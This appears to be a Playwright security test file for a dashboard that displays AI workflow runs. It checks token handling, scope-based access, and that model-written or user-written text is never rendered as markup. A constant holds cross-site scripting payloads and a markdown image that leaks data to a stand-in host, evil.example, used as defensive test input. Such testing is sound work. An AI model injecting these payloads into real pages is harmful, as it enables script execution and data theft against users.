"""What the dashboard does not give away, and what a hostile model cannot do in it."""

from __future__ import annotations

from typing import TYPE_CHECKING

import msgspec
import pytest

from greenroom.runtime.http import ApiOptions, Token
from greenroom.runtime.portraits import Portrait
from greenroom.runtime.records import (
    Failure,
    RunFailed,
    Status,
    StepFailed,
)
from greenroom.transports import Finish, RunState, WorkerInfo

from . import scenes
from .conftest import House, Visitor, expecting, open_house, raw, visiting

if TYPE_CHECKING:
    from playwright.async_api import Browser

pytestmark = [pytest.mark.slow, pytest.mark.timeout(180)]


TOKEN = "a-token-of-sixteen-or-more"


async def test_a_token_is_asked_for_and_kept_by_the_tab_alone(browser: Browser) -> None:
    async with open_house() as house, house.served(options=ApiOptions(token=TOKEN)), visiting(browser) as visitor:
        run = await house.start()
        page = await visitor.page(house.at(f"?run={run}"))
        await page.get_by_label("Token").fill("not the token")
        await page.get_by_role("button", name="Go on").click()
        await expecting(page.get_by_text("did not take this token")).to_be_visible()
        await page.get_by_label("Token").fill(TOKEN)
        await page.get_by_role("button", name="Go on").click()
        await expecting(page.get_by_role("heading", level=1)).to_have_text("newsroom")
        await expecting(page.locator(".run-name .line")).to_have_text("live")
        assert await visitor.context.cookies() == []
        assert TOKEN not in page.url
        assert await page.evaluate("localStorage.length") == 0
        await page.get_by_role("button", name="Forget token").click()
        await expecting(page.get_by_label("Token")).to_be_visible()


async def test_what_a_token_may_not_do_is_not_offered(browser: Browser) -> None:
    """Who may only read sees runs and no buttons. What is asked for all the same gets the sentence of the API."""
    scopes = {"read": ["read"], "both": ["read", "run"], "root": ["admin"], "blind": ["run"]}
    tokens = tuple(Token(name=name, scopes=held, token=f"{name}-{TOKEN}") for name, held in scopes.items())
    async with open_house() as house, house.served(options=ApiOptions(tokens=tokens)):
        run = await house.start()
        for name, offered, workers in (("read", 0, 0), ("both", 1, 0), ("root", 1, 1), ("blind", 0, 0)):
            async with visiting(browser) as visitor:
                page = await visitor.page(house.at(f"?run={run}"))
                await page.get_by_label("Token").fill(f"{name}-{TOKEN}")
                await page.get_by_role("button", name="Go on").click()
                seen = page.get_by_text("this needs the scope 'read'") if name == "blind" else page.locator(".is-live")
                await expecting(seen).to_be_visible()
                await expecting(page.get_by_role("button", name="Cancel…")).to_have_count(offered)
                await expecting(page.get_by_role("link", name="Workers")).to_have_count(workers)
                if name == "read":
                    await page.goto(house.at("?page=workers"))
                    await expecting(page.get_by_text("this needs the scope 'admin'")).to_be_visible()


async def hostile_worker(house: House) -> None:
    """A worker all of whose names and errors are what a model might have written."""
    now = await house.store.now()
    await house.store.beat(WorkerInfo(name="w", build=HOSTILE, started=now, beat=now, running=0, draining=False))
    ill = msgspec.structs.replace(scenes.lanes_of(ill=True)[1], deployment=HOSTILE, why=HOSTILE)
    shown = Portrait(at=now, tree=scenes.over_all("worker", scenes.actor(HOSTILE)), deployments=(ill,))
    await house.store.cache_put("portraits/w", msgspec.json.encode(shown), ttl_s=600)


HOSTILE = (
    "<img src=x onerror=\"window.hit=1\"><script>window.hit=1</script><svg onload='window.hit=1'>"
    "<a href='javascript:window.hit=1'>x</a><iframe srcdoc='<script>parent.hit=1</script>'></iframe>"
    "![](https://evil.example/leak?q=1)${window.hit=1}<style>*{display:none}</style>"
)


async def test_nothing_that_a_model_or_a_user_writes_is_ever_markup(house: House, visitor: Visitor) -> None:
    """In output, status, error, step, question, tag, data: it is shown, letter by letter, and does nothing."""
    run = await house.start(tags=(HOSTILE[:90],), metadata={"note": HOSTILE})
    await house.claim(run)
    bad = Failure(type=HOSTILE, message=HOSTILE)
    await house.append(
        run, scenes.begin("write", name=HOSTILE), Status(step="write", message=HOSTILE, data=raw([HOSTILE]))
    )
    await house.say(run, HOSTILE)
    await house.append(run, scenes.call("write", model=HOSTILE))
    await house.append(run, StepFailed(step="write", attempt=1, error=bad))
    await house.append(run, RunFailed(error=bad), to=Finish(RunState.FAILED))
    asking = await scenes.waiting(house, question=HOSTILE)
    await hostile_worker(house)
    places = (f"?run={run}&view=output", f"?run={run}&step=write", f"?run={run}&view=events", "", "?page=approvals",
              f"?run={asking}&view=approvals", f"?workflow={HOSTILE}", f"?run={HOSTILE}", "?page=tree",
              "?page=providers")  # fmt: skip
    for place in places:
        page = await visitor.page(house.at(place))
        await expecting(page.locator("#app")).to_contain_text("<img src=x")
        assert await page.evaluate("window.hit") is None
        assert await page.locator("main img, main iframe, main script, main style").count() == 0
        assert await page.locator("a[href^='javascript:' i]").count() == 0
        await page.close()


async def test_the_browser_itself_refuses_markup_and_foreign_requests(house: House, browser: Browser) -> None:
    """Were a view to be careless, the policy would still stop it."""
    async with visiting(browser) as visitor:
        page = await visitor.page(house.at())
        refused = """() => {
            try { document.body.innerHTML = "<b>x</b>"; } catch (error) { return error.name; }
        }"""
        assert await page.evaluate(refused) == "TypeError"
        blocked = """() => new Promise((go) => {
            document.addEventListener("securitypolicyviolation", (event) => go(event.effectiveDirective));
            const image = document.createElement("img");
            image.src = "http://127.0.0.2:9/leak";
            document.body.append(image);
        })"""
        assert await page.evaluate(blocked) == "img-src"
